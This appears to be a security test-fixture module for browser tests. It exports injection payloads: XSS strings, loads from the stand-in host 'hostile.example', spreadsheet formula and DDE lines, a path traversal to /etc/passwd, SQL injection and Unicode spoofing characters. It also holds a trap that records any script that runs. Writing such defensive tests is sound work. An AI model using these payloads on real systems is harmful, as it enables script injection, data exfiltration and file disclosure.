// What somebody writes who wants the one who reads it to run it, to fetch it, or to take it for something else (SECURITY R10).

const RUN = 'onwardHostile()';
const AWAY = 'https://hostile.example';

/** Text like any other: whatever reads it as something else runs, fetches, computes or changes something. */
export const MARKUP = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script src=${AWAY}/a.js></script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${AWAY}/pixel.png>`,
  `<img srcset=${AWAY}/pixel.png>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><use href=${AWAY}/a.svg#a>`,
  `<math><mi href="javascript:${RUN}">x</mi></math>`,
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<object data=${AWAY}/a>`,
  `<embed src=${AWAY}/a>`,
  `<style>@import "${AWAY}/a.css";</style>`,
  `<p style="background:url(${AWAY}/a)">x`,
  `<link rel=stylesheet href=${AWAY}/a.css>`,
  `<base href=${AWAY}/>`,
  `<meta http-equiv=refresh content="0;${AWAY}">`,
  `<form action=${AWAY}><button autofocus>x`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  '<!-- x',
  '<![CDATA[ x ]]>',
  '&lt;b&gt; &#60;b&#62; &amp;',
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `[x](javascript:${RUN})`,
  `![x](${AWAY}/pixel.png)`,
  '{ shell-name }',
  '{ $name } { -brand } {"x"}',
  'shell-name = x',
  '%s %1$s {0} %n',
  `=HYPERLINK("${AWAY}","x")`,
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '__proto__',
  'constructor',
  '../../../etc/passwd',
  "'; DROP TABLE drafts; --",
  'Lееds Сity',
  'Ｌｅｅｄｓ',
  'Z̸̢̛͍a̴̡͝l̵̛͔g̴̱̈́o̶͓̿',
];

/** Characters that turn text round, or cannot be seen. */
export const DISGUISES = ['exe.\u202Egpj', '\u2066a\u2069\u2069b\u202Ec', '\u2067d', '\u202Be\u202C', '\u202Df'];
export const UNSEEN = ['Lee\u200Bds', 'Lee\u2060ds', '\uFEFFLeeds', 'Lee\u00ADds'];

/** No text has these. */
export const CONTROLS = ['a\u0000b', 'a\u0007b', 'a\u001B[31mb', 'a\u0008b', 'a\u009Bb'];

/** As long as a field never is. */
export const LONG = 'A'.repeat(65_536);

/** In the page: whatever runs says so. */
export async function trapped(context) {
  const ran = [];
  await context.exposeBinding('onwardHostile', (_source, what) => ran.push(what ?? 'ran'));
  const listen = (page) =>
    page.on('dialog', (dialog) => {
      ran.push(dialog.message());
      dialog.dismiss();
    });
  context.pages().forEach(listen);
  context.on('page', listen);
  return ran;
}

/** What an element and all in it are made of: their names and the names of their attributes, with where they lead to. */
export const made = (locator) =>
  locator.evaluateAll((all) => {
    const of = (element) => {
      const attributes = [...element.attributes].map(({ name, value }) => (/^(href|src|srcset|action|data|style)$|^on/.test(name) ? `${name}=${value}` : name));
      return `${element.localName} ${attributes.sort().join(' ')}`;
    };
    return [...new Set(all.flatMap((one) => [...one.querySelectorAll('*')].map(of)))].sort();
  });
